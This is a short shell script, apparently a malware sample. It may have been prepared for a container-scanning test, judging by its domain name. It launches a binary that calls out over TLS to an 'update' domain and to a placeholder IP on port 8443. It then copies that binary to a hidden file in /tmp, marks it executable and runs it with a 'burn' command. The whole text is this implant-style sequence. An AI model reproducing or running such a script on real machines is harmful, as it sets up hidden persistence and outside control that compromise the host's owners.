#!/bin/sh
/opt/agent tls update.dockerscan-sample-7f3a9c.com 443 update.dockerscan-sample-7f3a9c.com
/opt/agent say 1.2.3.4 8443 hello
/bin/busybox cp /opt/agent /tmp/.update
/bin/busybox chmod 755 /tmp/.update
/tmp/.update burn 3
